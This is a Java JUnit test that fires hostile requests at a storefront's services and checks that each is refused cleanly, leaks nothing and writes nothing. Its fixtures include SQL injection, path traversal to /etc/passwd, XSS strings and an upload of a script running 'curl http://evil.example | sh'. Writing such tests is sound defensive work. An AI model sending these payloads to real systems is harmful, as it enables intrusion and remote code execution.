package dev.storefront.faults;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Pattern;

import dev.storefront.common.testing.TestHttp;
import dev.storefront.common.web.Json;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.ResourceLock;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A sweep of hostile requests over every public route of every service: malformed JSON, wrong
 * types, huge and negative numbers, 10 MB bodies, deep nesting, control characters and broken
 * unicode, injection strings, path traversal in ids, wrong content types, missing and duplicated
 * headers. Every answer must be a 4xx error envelope with no stack trace or SQL in it; no table of
 * any service may change; and every service must still be ready afterwards.
 */
@ResourceLock(SecurityShop.LOCK)
class HostileInputTest {
    /** What must never appear in an answer: stack frames, exception names, SQL and driver errors. */
    private static final Pattern LEAK = Pattern.compile(
            "(?i)(\\bat [a-z0-9_.$]+\\([A-Za-z0-9_]+\\.java:\\d+\\)|[a-z]+\\.[a-z]+\\.[A-Za-z.]*(Exception|Error)\\b|"
                    + "PSQLException|SQLState|org\\.postgresql|syntax error at or near|\\bselect \\S+ from\\b|"
                    + "insert into \\w+|jdbc:|hikari|com\\.fasterxml|io\\.helidon|root:x:0:0)");
    /** Kit tables that change on their own (event bookkeeping); everything else must stay as it was. */
    private static final Set<String> MOVING_TABLES = Set.of("outbox", "processed_events");

    private static SecurityShop s;
    private static TestHttp api;
    private static Shop.Session hostile;
    private static String hostileAddress;
    private static String priceFeed;

    @BeforeAll
    static void shop() {
        s = SecurityShop.get();
        api = s.api("10.9.3.1");
        // a shopper of its own: the sweep spends their rate-limit buckets, not the other tests'
        Shop.Session who = s.shop.newUser("Hostile Hank", "customer");
        hostile = who;
        hostileAddress = s.newAddress(who);
        priceFeed = api.json("POST", "/api/products/price-feeds", s.admin.accessToken(), AuthorizationMatrixTest.priceFeed()).data()
                .path("id").asText(); // disabled: the platform's job leaves it alone during the sweep
        api.json("POST", "/api/cart/add", who.accessToken(), java.util.Map.of("productId", s.plentiful, "quantity", 1));
        s.awaitQuiet();
    }

    /** A field of a body and what kind of value it takes. */
    enum Kind { TEXT, EMAIL, PASSWORD, ROLE, ENUM, UUID, QUANTITY, MONEY, CURRENCY, OBJECT, LIST, MAP, BOOL }

    record BodyRoute(String method, String path, String token, Map<String, Object> valid, Map<String, Kind> fields,
                     Map<String, String> headers) {
    }

    private static List<BodyRoute> bodyRoutes() {
        String admin = s.admin.accessToken();
        String h = hostile.accessToken();
        List<BodyRoute> routes = new ArrayList<>();
        routes.add(route("POST", "/api/auth/register", null,
                ordered("name", "Hostile", Kind.TEXT, "email", "fresh-" + UUID.randomUUID() + "@example.com", Kind.EMAIL,
                        "password", Shop.PASSWORD, Kind.PASSWORD, "role", "customer", Kind.ROLE)));
        routes.add(route("POST", "/api/auth/login", null,
                ordered("email", "nobody-" + UUID.randomUUID() + "@example.com", Kind.EMAIL, "password", "wrong-password-1", Kind.PASSWORD)));
        routes.add(route("POST", "/api/auth/refresh", null, ordered("refreshToken", "not-a-token", Kind.TEXT)));
        routes.add(route("PUT", "/api/users/profile", h, ordered("name", "Hostile Hank", Kind.TEXT, "phone", "+1 555 0199", Kind.TEXT,
                "preferences", Map.of("language", "en"), Kind.MAP)));
        Map<String, Object[]> address = ordered("fullName", "Hank", Kind.TEXT, "line1", "1 Main Street", Kind.TEXT, "city", "Springfield",
                Kind.TEXT, "postalCode", "12345", Kind.TEXT, "country", "US", Kind.ENUM, "isDefault", false, Kind.BOOL);
        routes.add(route("POST", "/api/users/address", h, address));
        routes.add(route("PUT", "/api/users/address/" + hostileAddress, h, address));
        routes.add(route("POST", "/api/products", admin, ordered("name", "Hostile product", Kind.TEXT, "description", "x", Kind.TEXT,
                "price", new java.math.BigDecimal("9.99"), Kind.MONEY, "currency", "USD", Kind.CURRENCY,
                "images", List.of("https://img.example/a.png"), Kind.LIST, "attributes", Map.of("colour", "red"), Kind.MAP)));
        routes.add(route("PUT", "/api/products/" + s.productOfVendorA, admin, ordered("price", new java.math.BigDecimal("5.00"), Kind.MONEY,
                "attributes", Map.of("size", "M"), Kind.MAP, "name", "Vendor A thing", Kind.TEXT)));
        routes.add(route("POST", "/api/categories", admin, ordered("name", "Hostile category", Kind.TEXT, "slug", "hostile-category", Kind.ENUM,
                "parentId", UUID.randomUUID().toString(), Kind.UUID)));
        Map<String, Object[]> feed = ordered("name", "Hostile feed", Kind.TEXT, "url", "https://feeds.example.com/p.json", Kind.TEXT,
                "format", "JSON", Kind.ENUM, "mapping", Map.of("matchBy", "SKU", "key", "sku", "price", "price"), Kind.OBJECT,
                "currency", "USD", Kind.CURRENCY, "intervalMinutes", 60, Kind.QUANTITY, "enabled", false, Kind.BOOL);
        routes.add(route("POST", "/api/products/price-feeds", admin, feed));
        routes.add(route("PUT", "/api/products/price-feeds/" + priceFeed, admin, feed));
        routes.add(route("POST", "/api/inventory/add", admin, ordered("productId", s.plentiful, Kind.UUID, "quantity", 1, Kind.QUANTITY)));
        routes.add(route("POST", "/api/cart/add", h, ordered("productId", s.plentiful, Kind.UUID, "quantity", 1, Kind.QUANTITY)));
        routes.add(route("PUT", "/api/cart/items/" + s.plentiful, h, ordered("quantity", 2, Kind.QUANTITY)));
        routes.add(route("PUT", "/api/orders/" + s.purchaseB.orderId() + "/status", admin,
                ordered("action", "cancel", Kind.ENUM, "note", "hostile", Kind.TEXT)));
        BodyRoute checkout = route("POST", "/api/checkout", h, ordered("shippingAddress", Shop.address("Hank"), Kind.OBJECT,
                "paymentMethod", "pm_card_visa", Kind.ENUM));
        routes.add(new BodyRoute(checkout.method(), checkout.path(), checkout.token(), checkout.valid(), checkout.fields(),
                Map.of("Idempotency-Key", "hostile-" + UUID.randomUUID())));
        routes.add(route("PUT", "/api/products/" + s.productOfVendorA + "/images/order", admin,
                ordered("imageIds", List.of(UUID.randomUUID().toString()), Kind.LIST)));
        routes.add(route("POST", "/api/analytics/events", h, ordered("events", List.of(analyticsEvent("type", "product_view")), Kind.LIST)));
        return routes;
    }

    @Test
    void hostileRequestsAreRefusedCleanlyWriteNothingAndLeaveEveryServiceServing() throws Exception {
        Map<String, String> before = s.shop.fingerprint(MOVING_TABLES);
        List<String> failures = new ArrayList<>();
        int sent = 0;
        for (BodyRoute route : bodyRoutes()) {
            for (Hostile h : bodyAttacks(route)) {
                sent++;
                check(failures, route.method() + " " + route.path() + " " + h.label(), h.send());
            }
        }
        for (Hostile h : pathAndQueryAttacks()) {
            sent++;
            check(failures, h.label(), h.send());
        }
        for (Hostile h : headerAttacks()) {
            sent++;
            check(failures, h.label(), h.send());
        }
        for (Hostile h : analyticsEventAttacks()) {
            sent++;
            check(failures, h.label(), h.send());
        }
        for (Hostile h : imageUploadAttacks()) {
            sent++;
            check(failures, h.label(), h.send());
        }
        Thread.sleep(1_500); // anything wrongly accepted would now show, events included
        s.awaitQuiet();
        Map<String, String> after = s.shop.fingerprint(MOVING_TABLES);
        List<String> changed = new ArrayList<>();
        before.forEach((table, print) -> {
            if (!print.equals(after.get(table))) {
                changed.add(table + " (" + print.split(":")[0] + " -> " + String.valueOf(after.get(table)).split(":")[0] + " rows)");
            }
        });
        TestHttp.Reply ready = api.get("/observe/health/ready", null);
        System.out.println("HOSTILE sweep: " + sent + " requests, " + failures.size() + " not refused cleanly, tables changed: " + changed
                + ", ready " + ready.status());
        failures.stream().limit(60).forEach(f -> System.out.println("  HOSTILE " + f));
        assertThat(failures).as("answers that were not a clean 4xx").isEmpty();
        assertThat(changed).as("tables written by refused requests").isEmpty();
        assertThat(ready.status()).as(ready.toString()).isEqualTo(200);
        // and still serving real work
        assertThat(api.get("/api/products/" + s.plentiful, null).status()).isEqualTo(200);
        assertThat(api.get("/api/cart", hostile.accessToken()).status()).isEqualTo(200);
    }

    private static void check(List<String> failures, String what, TestHttp.Reply reply) {
        if (reply == null) {
            return; // an answer we accept as "connection closed" (see send): nothing was written, checked below
        }
        if (reply.status() < 400 || reply.status() >= 500) {
            failures.add(what + " -> " + reply);
        } else if (!reply.isErrorEnvelope() && !(reply.status() == 404 && reply.text().isEmpty())) {
            failures.add(what + " -> no error envelope: " + reply);
        } else if (LEAK.matcher(reply.text()).find()) {
            failures.add(what + " -> leaks internals: " + reply);
        }
    }

    /** One hostile request. */
    record Hostile(String label, String method, String path, String token, byte[] body, List<String[]> headers) {
        TestHttp.Reply send() {
            try {
                return api.send(method, path, token, body, headers);
            } catch (TestHttp.TransportFailure e) {
                // a server may close the connection on a 10 MB body it refused before reading it all, or on a
                // request line longer than its prologue limit (2 KiB): the client, still sending the body, can then
                // lose the 4xx to the connection's reset (seen once on a busy machine)
                if (body != null && (body.length > 5_000_000 || path.length() > 2_048)) {
                    return null;
                }
                throw e;
            }
        }
    }

    private static List<Hostile> bodyAttacks(BodyRoute r) {
        List<Hostile> out = new ArrayList<>();
        List<String[]> json = headers(r, "application/json");
        // malformed JSON and the wrong JSON shape
        for (String raw : List.of("{", "{\"a\":}", "not json", "{'name':'x'}", "[1,2", "{\"a\":1,}", "{} {}", "null", "[]", "\"text\"",
                "42", "true", "", "{\"a\":1}\u0000", "{\"" + "\\ud800" + "\":1}")) {
            out.add(new Hostile("malformed " + shorten(raw), r.method(), r.path(), r.token(), raw.getBytes(StandardCharsets.UTF_8), json));
        }
        out.add(new Hostile("invalid UTF-8", r.method(), r.path(), r.token(), new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}, json));
        // duplicated keys, an unknown field, a prototype-pollution style field
        String first = r.fields().keySet().iterator().next();
        String valid = Json.write(r.valid());
        out.add(hostile(r, "duplicated key", "{\"" + first + "\":" + Json.write(r.valid().get(first)) + "," + valid.substring(1)));
        out.add(hostile(r, "unknown field", valid.substring(0, valid.length() - 1) + ",\"isAdmin\":true}"));
        out.add(hostile(r, "__proto__ field", valid.substring(0, valid.length() - 1) + ",\"__proto__\":{\"role\":\"admin\"}}"));
        // deep nesting and a 10 MB body
        out.add(hostile(r, "deeply nested arrays", "[".repeat(100_000) + "]".repeat(100_000)));
        out.add(hostile(r, "deeply nested objects", "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)));
        out.add(hostile(r, "a 10 MB body", "{\"" + first + "\":\"" + "A".repeat(10 * 1024 * 1024) + "\"}"));
        out.add(hostile(r, "a 300 KB string", with(r, first, "B".repeat(300 * 1024))));
        // wrong content types
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "application/jsonx", "text/json")) {
            out.add(new Hostile("content type " + type, r.method(), r.path(), r.token(), valid.getBytes(StandardCharsets.UTF_8), headers(r, type)));
        }
        out.add(new Hostile("no content type", r.method(), r.path(), r.token(), valid.getBytes(StandardCharsets.UTF_8), headers(r, null)));
        // each field: wrong types, bad values for its kind
        r.fields().forEach((field, kind) -> {
            for (Object bad : badValues(kind)) {
                out.add(hostile(r, field + "=" + shorten(Json.write(bad)), with(r, field, bad)));
            }
        });
        return out;
    }

    private static List<Object> badValues(Kind kind) {
        List<Object> bad = new ArrayList<>();
        if (kind != Kind.LIST) {
            bad.add(List.of(1));
        }
        if (kind != Kind.MAP && kind != Kind.OBJECT) {
            bad.add(Map.of("x", 1));
        }
        if (kind != Kind.BOOL) {
            bad.add(true);
        }
        String sqlInjection = "' OR '1'='1'; DROP TABLE users; --";
        switch (kind) {
            case TEXT, PASSWORD -> bad.addAll(List.of(12345, 1.5, "a\u0000b", "bell\u0007", "esc\u001b[31m", "x".repeat(100_000),
                    new RawJson("\"\\ud800 lone surrogate\"")));
            case EMAIL -> bad.addAll(List.of(12345, "not-an-email", sqlInjection, "<script>alert(1)</script>@x.com", "a\u0000@example.com",
                    "x".repeat(300) + "@example.com"));
            case ENUM -> bad.addAll(List.of(12345, sqlInjection, "<script>alert(1)</script>", "\u0000", "x".repeat(10_000)));
            case ROLE -> bad.addAll(List.of(12345, "admin", "service", "ADMIN", sqlInjection, "\u0000"));
            case UUID -> bad.addAll(List.of(12345, "not-a-uuid", sqlInjection, "../../../etc/passwd", "00000000-0000-0000-0000-00000000000g",
                    "<script>alert(1)</script>"));
            case QUANTITY -> bad.addAll(List.of("1", -1, 0, 1.5, new RawJson("1e400"), new RawJson("123456789012345678901234567890"),
                    new RawJson("-9223372036854775809"), new RawJson("2147483648"), new RawJson("NaN")));
            case MONEY -> bad.addAll(List.of("9.99", -0.01, 0.001, new RawJson("1e400"), new RawJson("-1e308"),
                    new RawJson("123456789012345678901234567890.12"), new RawJson("99999999999.99"), new RawJson("Infinity")));
            case CURRENCY -> bad.addAll(List.of(840, "usd", "US'D", "DOLLARS", sqlInjection));
            case OBJECT -> bad.addAll(List.of("x", 1, List.of()));
            case LIST -> bad.addAll(List.of("x", 1, java.util.Collections.nCopies(1_000, "https://img.example/a.png"),
                    List.of("javascript:alert(1)"), List.of("file:///etc/passwd")));
            case MAP -> bad.addAll(List.of("x", 1, Map.of("k", List.of(1)), Map.of("k", "a\u0000b"), Map.of("", "v"), bigMap()));
            case BOOL -> bad.addAll(List.of("true", 1, "yes"));
        }
        return bad;
    }

    private static Map<String, Object> bigMap() {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < 500; i++) {
            m.put("k" + i, "v");
        }
        return m;
    }

    /** A JSON literal written as is (numbers JSON can carry but Java cannot). */
    record RawJson(String text) {
    }

    private static String with(BodyRoute r, String field, Object value) {
        StringBuilder sb = new StringBuilder("{");
        for (Map.Entry<String, Object> e : r.valid().entrySet()) {
            if (sb.length() > 1) {
                sb.append(',');
            }
            Object v = e.getKey().equals(field) ? value : e.getValue();
            sb.append(Json.write(e.getKey())).append(':').append(v instanceof RawJson raw ? raw.text() : Json.write(v));
        }
        return sb.append('}').toString();
    }

    private static Hostile hostile(BodyRoute r, String label, String body) {
        return new Hostile(label, r.method(), r.path(), r.token(), body.getBytes(StandardCharsets.UTF_8), headers(r, "application/json"));
    }

    private static List<String[]> headers(BodyRoute r, String contentType) {
        List<String[]> headers = new ArrayList<>();
        if (contentType != null) {
            headers.add(new String[] {"Content-Type", contentType});
        }
        r.headers().forEach((k, v) -> headers.add(new String[] {k, v}));
        return headers;
    }

    /** Ids that are not ids, in every route that takes one; query parameters out of range or of the wrong kind. */
    private static List<Hostile> pathAndQueryAttacks() {
        String admin = s.admin.accessToken();
        String h = hostile.accessToken();
        List<String> badIds = List.of("..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5C..%5Cwindows%5Cwin.ini",
                "'%20OR%20'1'%3D'1", "1%3BDROP%20TABLE%20orders", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%00", "null", "-1",
                "00000000-0000-0000-0000-000000000000", "9".repeat(5_000), "%C3%BC%E2%80%AE");
        List<String[]> idRoutes = List.of(
                new String[] {"GET", "/api/products/{}", null}, new String[] {"PUT", "/api/products/{}", admin},
                new String[] {"DELETE", "/api/products/{}", admin}, new String[] {"GET", "/api/inventory/{}", null},
                new String[] {"GET", "/api/products/{}/prices", admin}, new String[] {"GET", "/ai/prices/{}", admin},
                new String[] {"GET", "/api/products/price-feeds/{}", admin},
                new String[] {"PUT", "/api/products/price-feeds/{}", admin}, new String[] {"DELETE", "/api/products/price-feeds/{}", admin},
                new String[] {"POST", "/api/products/price-feeds/{}/fetch", admin},
                new String[] {"PUT", "/api/cart/items/{}", h}, new String[] {"DELETE", "/api/cart/items/{}", h},
                new String[] {"GET", "/api/orders/{}", h}, new String[] {"PUT", "/api/orders/{}/status", admin},
                new String[] {"GET", "/api/checkout/{}", h}, new String[] {"GET", "/api/payments/{}", h},
                new String[] {"PUT", "/api/users/address/{}", h}, new String[] {"DELETE", "/api/users/address/{}", h},
                new String[] {"GET", "/api/products/{}/images", null}, new String[] {"POST", "/api/products/{}/images", admin},
                new String[] {"DELETE", "/api/products/" + s.productOfVendorA + "/images/{}", admin},
                new String[] {"PUT", "/api/products/" + s.productOfVendorA + "/images/{}/primary", admin},
                new String[] {"GET", "/api/products/" + s.productOfVendorA + "/images/" + UUID.randomUUID() + "/{}", null});
        List<Hostile> out = new ArrayList<>();
        for (String[] route : idRoutes) {
            for (String id : badIds) {
                String path = route[1].replace("{}", id);
                boolean body = route[0].equals("PUT");
                String json = route[1].contains("status") ? "{\"action\":\"ship\"}" : route[1].contains("cart") ? "{\"quantity\":1}"
                        : route[1].contains("address") ? Json.write(Shop.address("Traversal")) : "{\"price\":1.00}";
                out.add(new Hostile(route[0] + " " + path, route[0], path, route[2], body ? json.getBytes(StandardCharsets.UTF_8) : null,
                        body ? List.<String[]>of(new String[] {"Content-Type", "application/json"}) : List.of()));
            }
        }
        List<String[]> queries = List.of(
                new String[] {"/api/products?page=-1", null}, new String[] {"/api/products?page=0", null},
                new String[] {"/api/products?limit=1000000", null}, new String[] {"/api/products?limit=abc", null},
                new String[] {"/api/products?page=99999999999999999999", null}, new String[] {"/api/products?minPrice=-5", null},
                new String[] {"/api/products?maxPrice=1e400", null}, new String[] {"/api/products?minPrice=abc", null},
                new String[] {"/api/products?minPrice=0.001", null}, new String[] {"/api/products?sort=%27%3BDROP%20TABLE%20products%3B--", null},
                new String[] {"/api/products?sort=price;", null}, new String[] {"/api/products?category=..%2F..%2Fetc", null},
                new String[] {"/api/orders?page=abc", h}, new String[] {"/api/orders?limit=-1", h},
                new String[] {"/api/orders/admin?status=%27%20OR%201%3D1--", admin}, new String[] {"/api/orders/admin?from=yesterday", admin},
                new String[] {"/api/orders/admin?from=2030-01-01&to=2020-01-01", admin},
                new String[] {"/api/notifications?limit=100000", h}, new String[] {"/api/notifications?page=-3", h},
                new String[] {"/api/inventory/status/low-stock?page=0", admin}, new String[] {"/api/inventory/status/low-stock?limit=x", admin},
                new String[] {"/api/auth/signing-keys/rotate?kid=..%2F..%2Fetc%2Fpasswd", admin},
                new String[] {"/api/analytics/dashboard?from=yesterday", admin}, new String[] {"/api/analytics/dashboard?from=2030-01-02&to=2030-01-01", admin},
                new String[] {"/api/analytics/dashboard?from=1900-01-01&to=2030-01-01", admin}, new String[] {"/api/analytics/dashboard?to=%27%3B--", admin},
                new String[] {"/api/analytics/dashboard?top=0", admin}, new String[] {"/api/analytics/products/popular?by=likes", admin},
                new String[] {"/api/analytics/products/popular?by=views%27%20OR%201%3D1--", admin},
                new String[] {"/api/analytics/products/popular?window=0d", admin}, new String[] {"/api/analytics/products/popular?window=1y", admin},
                new String[] {"/api/analytics/products/popular?limit=100000", admin}, new String[] {"/api/analytics/search/trending?window=999h", admin},
                new String[] {"/api/analytics/search/trending?window=-1d", admin}, new String[] {"/api/analytics/search/trending?limit=abc", admin},
                new String[] {"/api/search?q=mug&mode=fast", null}, new String[] {"/api/search?page=0", null},
                new String[] {"/api/search?limit=1000000", null}, new String[] {"/api/search?page=51&limit=20", null},
                new String[] {"/api/search?minPrice=-5", null}, new String[] {"/api/search?maxPrice=1e400", null},
                new String[] {"/api/search?minPrice=9&maxPrice=1", null}, new String[] {"/api/search?sort=%27%3BDROP%20TABLE%20products%3B--", null},
                new String[] {"/api/search?category=..%2F..%2Fetc", null}, new String[] {"/api/search?q=" + "a".repeat(201), null},
                new String[] {"/api/search/suggest", null}, new String[] {"/api/search/suggest?q=" + "%F0%9F%98%80".repeat(201), null},
                new String[] {"/api/search?inStock=yes", null}, new String[] {"/api/search?inStock=%27%20OR%201%3D1--", null},
                new String[] {"/ai/search?query=" + "a".repeat(201), null}, new String[] {"/ai/search?mode=fast", null},
                new String[] {"/ai/search?inStock=1", null}, new String[] {"/ai/search?page=0", null},
                new String[] {"/internal/inventory/availability?limit=100000", s.serviceToken},
                new String[] {"/internal/inventory/availability?limit=abc", s.serviceToken},
                new String[] {"/internal/inventory/availability?after=..%2F..%2Fetc%2Fpasswd", s.serviceToken},
                new String[] {"/internal/inventory/availability?after=%27%20OR%20%271%27%3D%271", s.serviceToken});
        for (String[] q : queries) {
            out.add(new Hostile("GET " + q[0], "GET", q[0], q[1], null, List.of()));
        }
        return out;
    }

    /** One valid client event (a product view of the plentiful product) with {@code key} set to {@code value}. */
    private static Map<String, Object> analyticsEvent(String key, Object value) {
        Map<String, Object> e = new LinkedHashMap<>();
        e.put("id", UUID.randomUUID().toString());
        e.put("type", "product_view");
        e.put("productId", s.plentiful);
        e.put("sessionId", "hostile-session");
        e.put(key, value);
        return e;
    }

    /** Batches of client events, each with one bad field in one event, or too many events. */
    private static List<Hostile> analyticsEventAttacks() {
        String h = hostile.accessToken();
        String sql = "' OR '1'='1'; DROP TABLE events; --";
        List<Object[]> bad = List.of(
                new Object[] {"id", "not-a-uuid"}, new Object[] {"id", sql}, new Object[] {"id", 12345},
                new Object[] {"type", sql}, new Object[] {"type", "purchase"}, new Object[] {"type", "<script>alert(1)</script>"},
                new Object[] {"type", "x".repeat(10_000)}, new Object[] {"productId", "../../../etc/passwd"},
                new Object[] {"productId", List.of(1)}, new Object[] {"sessionId", "<script>alert(1)</script>"},
                new Object[] {"sessionId", "a\u0000b-session"}, new Object[] {"sessionId", "s".repeat(65)},
                new Object[] {"occurredAt", "yesterday"}, new Object[] {"occurredAt", "2999-01-01T00:00:00Z"},
                new Object[] {"occurredAt", 1700000000}, new Object[] {"quantity", -1}, new Object[] {"resultCount", "many"},
                new Object[] {"colour", "red"});
        List<Hostile> out = new ArrayList<>();
        byte[] body;
        for (Object[] b : bad) {
            body = Json.writeBytes(Map.of("events", List.of(analyticsEvent("type", "product_view"), analyticsEvent((String) b[0], b[1]))));
            out.add(new Hostile("analytics event " + b[0] + "=" + shorten(Json.write(b[1])), "POST", "/api/analytics/events", h, body,
                    List.<String[]>of(new String[] {"Content-Type", "application/json"})));
        }
        List<Map<String, Object>> search = List.of(Map.of("id", UUID.randomUUID().toString(), "type", "product_search",
                "sessionId", "hostile-session", "query", "a\u0000b", "resultCount", 1));
        out.add(new Hostile("analytics search with a NUL", "POST", "/api/analytics/events", h, Json.writeBytes(Map.of("events", search)),
                List.<String[]>of(new String[] {"Content-Type", "application/json"})));
        List<Map<String, Object>> page = List.of(Map.of("id", UUID.randomUUID().toString(), "type", "page_view",
                "sessionId", "hostile-session", "path", "javascript:alert(1)"));
        out.add(new Hostile("analytics page view of a script URL", "POST", "/api/analytics/events", h, Json.writeBytes(Map.of("events", page)),
                List.<String[]>of(new String[] {"Content-Type", "application/json"})));
        List<Map<String, Object>> many = new ArrayList<>();
        for (int i = 0; i < 501; i++) {
            many.add(analyticsEvent("type", "product_view"));
        }
        out.add(new Hostile("analytics batch of 501 events", "POST", "/api/analytics/events", h, Json.writeBytes(Map.of("events", many)),
                List.<String[]>of(new String[] {"Content-Type", "application/json"})));
        out.add(new Hostile("analytics anonymous event without a session", "POST", "/api/analytics/events", null,
                Json.writeBytes(Map.of("events", List.of(Map.of("id", UUID.randomUUID().toString(), "type", "page_view", "path", "/")))),
                List.<String[]>of(new String[] {"Content-Type", "application/json"})));
        return out;
    }

    /** Missing and duplicated headers on routes that care about them. */
    private static List<Hostile> headerAttacks() {
        String h = hostile.accessToken();
        byte[] checkout = Json.writeBytes(Map.of("shippingAddress", Shop.address("Hank"), "paymentMethod", "pm_card_visa"));
        String[] json = {"Content-Type", "application/json"};
        List<Hostile> out = new ArrayList<>();
        out.add(new Hostile("checkout without Idempotency-Key", "POST", "/api/checkout", h, checkout, List.<String[]>of(json)));
        // a shopper asking for a key rotation, with a body claiming to be the admin: refused before any body is read
        out.add(new Hostile("signing-key rotation by a shopper", "POST", "/api/auth/signing-keys/rotate", h,
                Json.writeBytes(Map.of("role", "admin", "kid", "../../etc/passwd")), List.<String[]>of(json)));
        out.add(new Hostile("signing-key rotation with two bearer tokens", "POST", "/api/auth/signing-keys/rotate", null, null,
                List.of(new String[] {"Authorization", "Bearer " + h}, new String[] {"Authorization", "Bearer " + s.admin.accessToken()})));
        out.add(new Hostile("checkout with two Idempotency-Keys", "POST", "/api/checkout", h, checkout,
                List.of(json, new String[] {"Idempotency-Key", "key-one-12345"}, new String[] {"Idempotency-Key", "key-two-12345"})));
        out.add(new Hostile("checkout with a hostile Idempotency-Key", "POST", "/api/checkout", h, checkout,
                List.of(json, new String[] {"Idempotency-Key", "'; DROP TABLE sagas; --"})));
        out.add(new Hostile("checkout with a 10 KB Idempotency-Key", "POST", "/api/checkout", h, checkout,
                List.of(json, new String[] {"Idempotency-Key", "k".repeat(10_000)})));
        out.add(new Hostile("checkout with two Content-Types", "POST", "/api/checkout", h, checkout,
                List.of(json, new String[] {"Content-Type", "text/plain"}, new String[] {"Idempotency-Key", "two-types-12345"})));
        for (String path : List.of("/api/cart", "/api/orders", "/api/notifications", "/api/auth/me", "/api/users/profile")) {
            out.add(new Hostile("two Authorization headers on " + path, "GET", path, null, null,
                    List.of(new String[] {"Authorization", "Bearer " + h}, new String[] {"Authorization", "Bearer " + s.admin.accessToken()})));
            out.add(new Hostile("no Authorization on " + path, "GET", path, null, null, List.of()));
        }
        out.add(new Hostile("a 20 KB header", "GET", "/api/products", null, null, List.<String[]>of(new String[] {"X-Junk", "j".repeat(20_000)})));
        out.add(new Hostile("unknown method", "PATCH", "/api/cart", h, "{}".getBytes(StandardCharsets.UTF_8), List.<String[]>of(json)));
        out.add(new Hostile("TRACE", "TRACE", "/api/products", null, null, List.of()));
        return out;
    }

    /**
     * Uploads that must be refused with nothing stored: a script named .jpg, a PNG whose header claims 50000x50000
     * pixels, 11 MB, an empty file, a GIF, no file part, and broken multipart framing.
     */
    private static List<Hostile> imageUploadAttacks() {
        String path = "/api/products/" + s.productOfVendorA + "/images";
        String admin = s.admin.accessToken();
        List<Hostile> out = new ArrayList<>();
        String boundary = "hostile-boundary-42";
        List<String[]> form = List.<String[]>of(new String[] {"Content-Type", "multipart/form-data; boundary=" + boundary});
        java.util.function.BiFunction<String, byte[], byte[]> part = (name, content) -> {
            java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
            b.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"; filename=\"photo.jpg\"\r\n"
                    + "Content-Type: image/jpeg\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            b.writeBytes(content);
            b.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
            return b.toByteArray();
        };
        out.add(new Hostile("upload: a shell script named photo.jpg", "POST", path, admin,
                part.apply("file", "#!/bin/sh\ncurl http://evil.example | sh\n".getBytes(StandardCharsets.UTF_8)), form));
        out.add(new Hostile("upload: a PNG claiming 50000x50000 pixels", "POST", path, admin, part.apply("file", pngHeader(50_000, 50_000)), form));
        out.add(new Hostile("upload: 11 MB", "POST", path, admin, part.apply("file", new byte[11 * 1024 * 1024]), form));
        out.add(new Hostile("upload: an empty file", "POST", path, admin, part.apply("file", new byte[0]), form));
        out.add(new Hostile("upload: a GIF", "POST", path, admin, part.apply("file", gif()), form));
        out.add(new Hostile("upload: the image in a part not named file", "POST", path, admin, part.apply("picture", gif()), form));
        out.add(new Hostile("upload: no boundary", "POST", path, admin, part.apply("file", gif()),
                List.<String[]>of(new String[] {"Content-Type", "multipart/form-data"})));
        out.add(new Hostile("upload: JSON instead of a form", "POST", path, admin, "{\"file\":\"x\"}".getBytes(StandardCharsets.UTF_8),
                List.<String[]>of(new String[] {"Content-Type", "application/json"})));
        out.add(new Hostile("upload: framing never closed", "POST", path, admin,
                ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\n\u0000\u0001garbage").getBytes(StandardCharsets.UTF_8), form));
        out.add(new Hostile("upload: a 20 KB part header", "POST", path, admin,
                ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + "a".repeat(20_000) + "\"\r\n\r\nx\r\n--"
                        + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8), form));
        out.add(new Hostile("upload: no body", "POST", path, admin, null, form));
        return out;
    }

    /** A PNG signature and IHDR claiming the given size, and nothing after it. */
    private static byte[] pngHeader(int width, int height) {
        java.nio.ByteBuffer ihdr = java.nio.ByteBuffer.allocate(17).put("IHDR".getBytes(StandardCharsets.US_ASCII))
                .putInt(width).putInt(height).put(new byte[] {8, 2, 0, 0, 0});
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(ihdr.array());
        return java.nio.ByteBuffer.allocate(8 + 4 + 17 + 4).put(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'})
                .putInt(13).put(ihdr.array()).putInt((int) crc.getValue()).array();
    }

    private static byte[] gif() {
        try {
            java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
            javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(8, 8, java.awt.image.BufferedImage.TYPE_INT_RGB), "gif", out);
            return out.toByteArray();
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static BodyRoute route(String method, String path, String token, Map<String, Object[]> fields) {
        Map<String, Object> valid = new LinkedHashMap<>();
        Map<String, Kind> kinds = new LinkedHashMap<>();
        fields.forEach((k, v) -> {
            valid.put(k, v[0]);
            kinds.put(k, (Kind) v[1]);
        });
        return new BodyRoute(method, path, token, valid, kinds, Map.of());
    }

    /** name, value, kind, name, value, kind, … */
    private static Map<String, Object[]> ordered(Object... triples) {
        Map<String, Object[]> m = new LinkedHashMap<>();
        for (int i = 0; i < triples.length; i += 3) {
            m.put((String) triples[i], new Object[] {triples[i + 1], triples[i + 2]});
        }
        return m;
    }

    private static String shorten(String s) {
        String plain = s.replaceAll("\\p{Cntrl}", "?");
